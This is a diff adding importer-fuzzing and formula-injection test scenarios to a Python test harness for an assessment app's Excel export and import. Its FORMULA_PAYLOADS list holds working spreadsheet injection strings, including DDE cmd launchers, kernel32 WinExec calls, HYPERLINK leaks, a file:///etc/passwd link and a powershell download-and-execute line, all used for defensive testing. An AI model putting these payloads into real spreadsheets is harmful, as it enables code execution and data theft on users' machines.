@@ -864,3 +864,464 @@ def scenario_upgrades(workdir: Path) -> dict:
                f"backup, {lost} answers lost of {sum(r['answers'] for r in runs)}")
     return result(not problems, summary, problems, fixtures=len(fixtures), opened=len(runs),
                   upgrades=migrated, without_backup=no_backup, lost=lost, missing_versions=missing)
+
+
+# --- exchange helpers -------------------------------------------------------------------------
+
+def module_missing(name: str) -> str | None:
+    """None when ``name`` imports; otherwise the reason to skip a scenario that needs it."""
+    import importlib
+
+    try:
+        importlib.import_module(name)
+    except ModuleNotFoundError as exc:
+        if exc.name and name.startswith(exc.name):
+            return f"{name} is not part of this build yet"
+        raise
+    return None
+
+
+def skipped(reason: str) -> dict:
+    return {"ok": True, "skipped": True, "summary": reason, "problems": []}
+
+
+_RAW_ERROR_HINTS = ("Traceback", "NoneType", "has no attribute", "index out of range", "invalid literal",
+                    "unsupported operand", "not subscriptable", "object is not", "expected str",
+                    "KeyError", "IndexError", "TypeError", "AttributeError", "ValueError(")
+
+
+def names_the_problem(message: str, path: Path) -> bool:
+    """The message names the file and gives a reason a person can act on (no raw Python error)."""
+    if path.name not in message:
+        return False
+    reason = message.split(path.name, 1)[1].lstrip(": ")
+    return len(reason) >= 8 and not any(h in reason for h in _RAW_ERROR_HINTS)
+
+
+def answers_signature(store, aid: int) -> dict:
+    return {k: (a.status, a.value, a.comment, tuple((e.kind, e.text) for e in a.evidence))
+            for k, a in store.answers(aid).items()}
+
+
+def plan_signature(plan) -> dict:
+    return {a.key: (a.status, a.value, a.comment, tuple((e.kind, e.text) for e in a.evidence))
+            for a in plan.answers}
+
+
+class ImportBench:
+    """A database holding the exported assessment; tries imports and restores it after each
+    accepted one, so every attempt starts from the same content."""
+
+    def __init__(self, workdir: Path, pristine: Path):
+        from capacity_app.services.assessments import questionnaire_for
+
+        self.workdir = workdir
+        self.pristine = pristine
+        self.db = workdir / "target.sqlite3"
+        self.q = questionnaire_for()
+        self.store = None
+        self._reset()
+
+    def _reset(self) -> None:
+        from capacity_app.services.assessments import open_store
+
+        if self.store is not None:
+            self.store.close()
+        for side in ("", "-wal", "-shm"):
+            Path(str(self.db) + side).unlink(missing_ok=True)
+        shutil.copyfile(self.pristine, self.db)
+        self.store = open_store(self.db, daily_backup=False, backup_dir=self.workdir / "backups")
+        self.digest = db_digest(self.db)
+
+    def close(self) -> None:
+        if self.store is not None:
+            self.store.close()
+            self.store = None
+
+    def attempt(self, path: Path) -> dict:
+        """Read and apply ``path``; outcome: rejected | accepted | uncaught | partial."""
+        import tracemalloc
+
+        from capacity_app.services.exchange import apply_import, read_workbook
+
+        out: dict[str, Any] = {"file": path.name}
+        tracemalloc.start()
+        t0 = time.perf_counter()
+        plan = None
+        try:
+            plan = read_workbook(path, self.q)
+            apply_import(self.store, plan)
+            out["outcome"] = "accepted"
+        except Exception as exc:  # noqa: BLE001 - classified below
+            out["exception"] = f"{type(exc).__name__}: {exc}"
+            out["message"] = str(exc)
+            from capacity_app.services.assessments import ServiceError
+            from capacity_app.storage.db import StorageError
+
+            if getattr(exc, "user_error", False) or isinstance(exc, (ServiceError, StorageError)):
+                out["outcome"] = "rejected"
+                out["named"] = names_the_problem(str(exc), path)
+            else:
+                import traceback
+
+                out["outcome"] = "uncaught"
+                out["traceback"] = "".join(traceback.format_exception(exc)[-3:])
+        finally:
+            out["seconds"] = time.perf_counter() - t0
+            out["peak_bytes"] = tracemalloc.get_traced_memory()[1]
+            tracemalloc.stop()
+        if out["outcome"] == "accepted":
+            a = self.store.find_assessment(plan.uid)
+            if a is None or answers_signature(self.store, a.id) != plan_signature(plan):
+                out["outcome"] = "partial"
+            self._reset()
+        elif db_digest(self.db) != self.digest:
+            out["outcome"] = "partial"
+            self._reset()
+        return out
+
+
+def exported_workbook(workdir: Path) -> tuple[Path, Path, int]:
+    """A demo database and its exported workbook: (database, workbook, assessment id)."""
+    from capacity_app.services.assessments import open_store
+    from capacity_app.services.demo import create_demo
+    from capacity_app.services.exchange import export_workbook
+
+    db = workdir / "source.sqlite3"
+    with open_store(db, daily_backup=False) as store:
+        a = create_demo(store)
+        xlsx = export_workbook(store, a.id, workdir / "assessment.xlsx")
+    return db, Path(xlsx), a.id
+
+
+def structural_edits(base: Path, q, full: bool) -> Iterator[tuple[str, str, Callable]]:
+    """(category, name, edit(workbook)) hand edits made with openpyxl, like a person in Excel."""
+    from capacity_app.exchange import format as F
+
+    col = {name: i + 1 for i, name in enumerate(F.ANSWERS_COLUMNS)}
+
+    def rows_of(ws, ftype=None):
+        for r in range(2, ws.max_row + 1):
+            key = ws.cell(r, col["Answer key"]).value
+            res = q.resolve_key(key) if isinstance(key, str) else None
+            if res and (ftype is None or res[1].type == ftype):
+                yield r, key
+
+    def first(ws, ftype):
+        return next(rows_of(ws, ftype))[0]
+
+    def meta_set(name, value):
+        def edit(wb):
+            ws = wb[F.METADATA]
+            for r in range(2, ws.max_row + 1):
+                if ws.cell(r, 1).value == name:
+                    ws.cell(r, 2).value = value
+        return edit
+
+    def code(ftype, value):
+        def edit(wb):
+            ws = wb[F.ANSWERS]
+            ws.cell(first(ws, ftype), col["Code"]).value = value
+        return edit
+
+    def swap_sheets(wb):
+        a, m = wb[F.ANSWERS], wb[F.METADATA]
+        a.title, m.title = "tmp-swap", F.ANSWERS
+        a.title = F.METADATA
+
+    def reorder(wb):
+        wb._sheets.reverse()
+
+    def dup_row(wb):
+        ws = wb[F.ANSWERS]
+        r = first(ws, "text")
+        ws.append([c.value for c in ws[r]])
+
+    def many_rows(wb):
+        ws = wb[F.ANSWERS]
+        r = first(ws, "text")
+        values = [c.value for c in ws[r]]
+        for i in range(20000):
+            ws.append([*values[:1], f"zz_unknown_{i}", *values[2:]])
+
+    def header_swap(wb):
+        ws = wb[F.ANSWERS]
+        a, b = ws.cell(1, col["Code"]).value, ws.cell(1, col["Comment"]).value
+        ws.cell(1, col["Code"]).value, ws.cell(1, col["Comment"]).value = b, a
+
+    def change_id(wb):
+        ws = wb[F.ANSWERS]
+        r, key = next(rows_of(ws))
+        ws.cell(r, col["Answer key"]).value = key + "_changed"
+
+    def blank_keys(wb):
+        ws = wb[F.ANSWERS]
+        for r, _ in list(rows_of(ws))[:3]:
+            ws.cell(r, col["Answer key"]).value = None
+
+    edits = [
+        ("structural edit", "5 answer rows deleted", lambda wb: wb[F.ANSWERS].delete_rows(10, 5)),
+        ("structural edit", "every answer row deleted", lambda wb: wb[F.ANSWERS].delete_rows(2, wb[F.ANSWERS].max_row)),
+        ("structural edit", "Answers sheet renamed", lambda wb: setattr(wb[F.ANSWERS], "title", "Answers (2)")),
+        ("structural edit", "Metadata sheet deleted", lambda wb: wb.remove(wb[F.METADATA])),
+        ("structural edit", "Answers and Metadata sheets swapped", swap_sheets),
+        ("structural edit", "sheet order reversed", reorder),
+        ("structural edit", "answer key changed", change_id),
+        ("structural edit", "three answer keys blanked", blank_keys),
+        ("structural edit", "an answer row duplicated", dup_row),
+        ("structural edit", "Code and Comment headers swapped", header_swap),
+        ("structural edit", "text for a number (integer item)", code("integer", "twelve")),
+        ("structural edit", "text for a number (year item)", code("year", "20x6")),
+        ("structural edit", "huge number (decimal item)", code("decimal", 1e308)),
+        ("structural edit", "negative number (integer item)", code("integer", -5)),
+        ("structural edit", "choice code that does not exist", code("select_one", "no_such_code")),
+        ("structural edit", "rating out of range", code("rating", 9)),
+        ("structural edit", "a date where a choice belongs", code("select_one", __import__("datetime").datetime(2026, 1, 1))),
+        ("structural edit", "40,000-character comment", lambda wb: setattr(
+            wb[F.ANSWERS].cell(2, col["Comment"]), "value", "c" * 40000)),
+        ("structural edit", "Don't know set to 'maybe'", lambda wb: setattr(
+            wb[F.ANSWERS].cell(2, col["Don't know"]), "value", "maybe")),
+        ("structural edit", "wrong format version", meta_set("format_version", "99")),
+        ("structural edit", "wrong questionnaire version", meta_set("questionnaire_version", "9.9.9")),
+        ("structural edit", "wrong questionnaire id", meta_set("questionnaire_id", "some-other-questionnaire")),
+        ("structural edit", "edited checksum", meta_set("answers_sha256", "0" * 64)),
+        ("structural edit", "unknown country", meta_set("country_iso3", "ZZZ")),
+        ("structural edit", "round as text", meta_set("round", "two thousand")),
+        ("structural edit", "round as a huge number", meta_set("round", 10 ** 30)),
+        ("structural edit", "assessment uid removed", meta_set("assessment_uid", None)),
+        ("structural edit", "mission end as text", meta_set("mission_end", "next week")),
+        ("structural edit", "formula in a Metadata value", meta_set("title", "=HYPERLINK(\"http://x\")")),
+        ("structural edit", "20,000 extra rows with unknown keys", many_rows),
+    ]
+    if not full:
+        keep = {"5 answer rows deleted", "Answers and Metadata sheets swapped", "answer key changed",
+                "text for a number (integer item)", "wrong questionnaire version", "edited checksum",
+                "Metadata sheet deleted", "round as text"}
+        edits = [e for e in edits if e[1] in keep]
+    yield from edits
+
+
+def scenario_importer_fuzz(workdir: Path, mutations: int, truncation_step: int = 1, full: bool = True,
+                           seed: int = 6) -> dict:
+    """Truncations, random byte mutations, structural edits, XML entity attacks, zip bombs:
+    only readable refusals or complete imports; the database unchanged by every refused file."""
+    reason = module_missing("capacity_app.services.exchange")
+    if reason:
+        return skipped(reason)
+    import resource
+
+    import hostile_files as H
+    from openpyxl import load_workbook
+
+    workdir = Path(workdir)
+    workdir.mkdir(parents=True, exist_ok=True)
+    src_db, base_path, _ = exported_workbook(workdir)
+    base = base_path.read_bytes()
+    bench = ImportBench(workdir, src_db)
+    results: list[dict] = []
+    cases_dir = workdir / "cases"
+    cases_dir.mkdir()
+    t0 = time.perf_counter()
+
+    def run_case(category: str, name: str, data: bytes) -> None:
+        p = cases_dir / f"case-{len(results):05d}.xlsx"
+        p.write_bytes(data)
+        r = bench.attempt(p)
+        r.update(category=category, name=name, size=len(data))
+        results.append(r)
+        p.unlink()
+
+    try:
+        baseline = bench.attempt(base_path)
+        if baseline["outcome"] != "accepted":
+            return result(False, "the unmodified export itself is not importable", [str(baseline)])
+        for case in H.truncations(base, truncation_step):
+            run_case(*case)
+        for case in H.mutations(base, mutations, seed):
+            run_case(*case)
+        for category, name, edit in structural_edits(base_path, bench.q, full):
+            wb = load_workbook(base_path)
+            edit(wb)
+            buf = workdir / "edited.xlsx"
+            wb.save(buf)
+            run_case(category, name, buf.read_bytes())
+        for case in H.xml_attacks(base):
+            run_case(*case)
+        for case in H.zip_bombs(base, big_mb=200 if full else 70):
+            run_case(*case)
+    finally:
+        bench.close()
+    elapsed = time.perf_counter() - t0
+    problems: list[str] = []
+    cats: dict[str, dict] = {}
+    for r in results:
+        c = cats.setdefault(r["category"], {"files": 0, "rejected": 0, "accepted": 0, "uncaught": 0,
+                                            "partial": 0, "unnamed": 0, "worst_s": 0.0, "peak_mib": 0.0})
+        c["files"] += 1
+        c[r["outcome"]] += 1
+        if r["outcome"] == "rejected" and not r.get("named"):
+            c["unnamed"] += 1
+            problems.append(f"{r['name']}: message does not name the problem: {r['message'][:200]!r}")
+        if r["outcome"] == "uncaught":
+            problems.append(f"{r['name']}: uncaught {r['exception'][:200]}")
+        if r["outcome"] == "partial":
+            problems.append(f"{r['name']}: partial import (database changed)")
+        if r["category"] == "formula" and r["outcome"] == "accepted":
+            problems.append(f"{r['name']}: a workbook with a formula cell was imported")
+        if r["category"] in ("entity bomb", "external entity") and r["outcome"] == "accepted":
+            problems.append(f"{r['name']}: a workbook with a DOCTYPE/entity was imported")
+        c["worst_s"] = max(c["worst_s"], r["seconds"])
+        c["peak_mib"] = max(c["peak_mib"], r["peak_bytes"] / 2 ** 20)
+    total = len(results)
+    uncaught = sum(c["uncaught"] for c in cats.values())
+    partial = sum(c["partial"] for c in cats.values())
+    rejected = sum(c["rejected"] for c in cats.values())
+    unnamed = sum(c["unnamed"] for c in cats.values())
+    named_pct = 100.0 * (rejected - unnamed) / rejected if rejected else 100.0
+    worst = max(results, key=lambda r: r["seconds"])
+    peak = max(results, key=lambda r: r["peak_bytes"])
+    rss_mib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
+    per_cat = "; ".join(f"{k}: {v['files']} files, {v['rejected']} refused, {v['accepted']} accepted whole, "
+                        f"worst {v['worst_s']:.2f} s / {v['peak_mib']:.1f} MiB"
+                        for k, v in cats.items())
+    summary = (f"{total} damaged or hostile files: {uncaught} uncaught exceptions, {partial} partial "
+               f"imports, {named_pct:.0f}% of refusals name the file and the problem; worst time "
+               f"{worst['seconds']:.2f} s ({worst['name']}), peak Python memory "
+               f"{peak['peak_bytes'] / 2 ** 20:.1f} MiB ({peak['name']}), process peak RSS {rss_mib:.0f} MiB. "
+               f"By kind: {per_cat}")
+    ok = uncaught == 0 and partial == 0 and unnamed == 0 and not problems
+    return result(ok, summary, problems, files=total, uncaught=uncaught, partial=partial,
+                  rejected=rejected, unnamed=unnamed, named_percent=round(named_pct, 1),
+                  worst_seconds=round(worst["seconds"], 3), peak_mib=round(peak["peak_bytes"] / 2 ** 20, 1),
+                  categories=cats, seconds=round(elapsed, 1))
+
+
+# --- 7. formula injection ---------------------------------------------------------------------
+
+FORMULA_PAYLOADS = [
+    "=1+1", "=SUM(1,2)", "+1+1", "-1+1", "@SUM(1,2)", "=cmd|' /C calc'!A0", "=cmd|'/C notepad'!'A1'",
+    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    "=HYPERLINK(\"http://127.0.0.1:9/leak?\"&A1,\"click\")", "=HYPERLINK(\"file:///etc/passwd\")",
+    "=IMPORTXML(CONCAT(\"http://127.0.0.1:9/?\",A1),\"//a\")", "=WEBSERVICE(\"http://127.0.0.1:9/\")",
+    "{=SUM(A1:A3)}", "{=1+1}", "=A1:A3*2", "\t=1+1", "\r=1+1", "\n=1+1", "\t", "\r", " =1+1",
+    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "=", "+", "-", "@", "==1", "=+1", "=-1",
+    "=1/0", "=NA()", "=INDIRECT(\"A1\")", "=EXEC(\"calc\")", "=CALL(\"kernel32\",\"WinExec\",\"JJ\",\"calc\",0)",
+    "=REGISTER(\"kernel32\",\"WinExec\")", "=msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
+    "=rundll32|'URL.dll,OpenURL calc'!A", "=Shell(\"calc\")", "-2+3+cmd|' /C calc'!A0",
+    "+HYPERLINK(\"http://127.0.0.1:9\")", "@HYPERLINK(\"http://127.0.0.1:9\")", "=\"a\"&\"b\"",
+    "=CHAR(61)&\"1+1\"", "_x003D_1+1", "_x0009_=1", "=1+1_x000D_", "'=1+1", "''=1+1",
+    "=1+1\n=2+2", "%0A=1+1", "&#61;1+1", "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>",
+    "=SUM(1)\u0000", "=1+1\u0007", "\u200b=1+1", "\ufeff=1+1", "=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0",
+]
+
+
+def _payload_store(db: Path, payloads: list[str]):
+    """Answers, comments and evidence carrying each payload; returns (assessment id, entered,
+    refused at entry by validation)."""
+    from capacity_app.services.assessments import (
+        ServiceError, add_evidence, create_assessment, open_store, questionnaire_for, record_answer,
+    )
+
+    q = questionnaire_for()
+    keys = text_keys(q)
+    refused: list[str] = []
+    with open_store(db, daily_backup=False) as store:
+        a = create_assessment(store, q, country="KEN", round=2026)
+        for i, p in enumerate(payloads):
+            key = keys[i % len(keys)]
+            for what, call in (("answer", lambda: record_answer(store, q, a.id, key, p)),
+                               ("comment", lambda: record_answer(store, q, a.id, keys[-1 - i % len(keys)],
+                                                                 "plain", comment=p)),
+                               ("evidence", lambda: add_evidence(store, q, a.id, key, "note", p))):
+                try:
+                    call()
+                except ServiceError as exc:
+                    refused.append(f"{what} {p!r}: {exc}")
+        return a.id, answers_signature(store, a.id), refused
+
+
+_FORMULA_ELEMENT = __import__("re").compile(rb"<(?:[A-Za-z_][\w.-]*:)?f[\s>/]")
+_CHART_REF = __import__("re").compile(rb"<(?:[A-Za-z_][\w.-]*:)?f>(.*?)</(?:[A-Za-z_][\w.-]*:)?f>", 16)
+_RANGE_REF = __import__("re").compile(rb"^'?[A-Za-z0-9 _]+'?!\$[A-Z]{1,3}\$[0-9]+(:\$[A-Z]{1,3}\$[0-9]+)?$")
+
+
+def scenario_formula_injection(workdir: Path) -> dict:
+    """Formula-like text in answers, comments and evidence: exported as text cells (no formula
+    element in any XML part), and read back unchanged."""
+    reason = module_missing("capacity_app.services.exchange")
+    if reason:
+        return skipped(reason)
+    import zipfile
+    from xml.etree import ElementTree as ET
+
+    from capacity_app.services.assessments import open_store, questionnaire_for
+    from capacity_app.services.exchange import apply_import, export_workbook, read_workbook
+
+    workdir = Path(workdir)
+    workdir.mkdir(parents=True, exist_ok=True)
+    payloads = FORMULA_PAYLOADS
+    db = workdir / "payloads.sqlite3"
+    aid, before, refused = _payload_store(db, payloads)
+    problems: list[str] = []
+    with open_store(db, daily_backup=False) as store:
+        xlsx = export_workbook(store, aid, workdir / "payloads.xlsx")
+    formula_elements = non_text_cells = 0
+    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+    stripped = {p.strip() for p in payloads if p.strip()}
+    with zipfile.ZipFile(xlsx) as zf:
+        for name in zf.namelist():
+            if not name.endswith(".xml"):
+                continue
+            data = zf.read(name)
+            if name.startswith("xl/charts/"):
+                # chart series point at cell ranges (<c:f>'Scores'!$D$2:$D$9</c:f>): only those
+                refs = _CHART_REF.findall(data)
+                n = sum(1 for r in refs if not _RANGE_REF.match(r))
+            else:
+                n = len(_FORMULA_ELEMENT.findall(data))
+            if n:
+                formula_elements += n
+                problems.append(f"{name}: {n} formula elements")
+            if name.startswith("xl/worksheets/"):
+                for c in ET.fromstring(data).iter(f"{ns}c"):
+                    if c.get("t") in ("s", "inlineStr"):
+                        continue
+                    v = c.find(f"{ns}v")
+                    if v is not None and v.text and v.text.strip() in stripped:
+                        non_text_cells += 1
+                        problems.append(f"{name} {c.get('r')}: payload stored as a {c.get('t') or 'number'} cell")
+    q = questionnaire_for()
+    plan = read_workbook(xlsx, q)
+    target = workdir / "reimported.sqlite3"
+    with open_store(target, daily_backup=False) as store:
+        a = apply_import(store, plan)
+        after = answers_signature(store, a.id)
+    changed = [k for k in set(before) | set(after) if before.get(k) != after.get(k)]
+    for k in changed[:10]:
+        problems.append(f"{k}: {before.get(k)!r} came back as {after.get(k)!r}")
+    carried = sum(1 for sig in before.values() for x in (sig[1], sig[2], *[t for _, t in sig[3]])
+                  if isinstance(x, str) and x in payloads)
+    ok = formula_elements == 0 and non_text_cells == 0 and not changed and not problems
+    summary = (f"{len(payloads)} payloads through answers, comments and evidence ({carried} stored "
+               f"values, {len(refused)} refused at entry by validation): {formula_elements} formula "
+               f"elements and {non_text_cells} non-text payload cells in the export, {len(changed)} "
+               f"values changed after re-import")
+    return result(ok, summary, problems, payloads=len(payloads), stored=carried, refused_at_entry=len(refused),
+                  formula_elements=formula_elements, non_text_cells=non_text_cells, changed=len(changed))
+
+
+# --- the scenarios that need modules built by others: (name, promise, title, call) -------------
+
+def extra_plan(n: dict) -> list[tuple[str, str, str, Callable]]:
+    long = n is LONG or n == LONG
+    return [
+        ("importer_fuzz", "3, 4", "importer fuzzing: truncation, mutation, structural edits, XML and zip attacks",
+         lambda d: scenario_importer_fuzz(d, mutations=n["fuzz_mutations"],
+                                          truncation_step=n["fuzz_truncation_step"], full=long)),
+        ("formula_injection", "4, 5", "formula injection through export and re-import",
+         lambda d: scenario_formula_injection(d)),
+        ("pdf_isolation", "5", "PDF report isolation (files, network, embedding)",
+         lambda d: scenario_pdf_isolation(d)),
+        ("gui_close_during_export", "1, 7", "closing the window during a running export",
+         lambda d: scenario_gui_close_during_export(d, closes=n["gui_closes"])),
+    ]
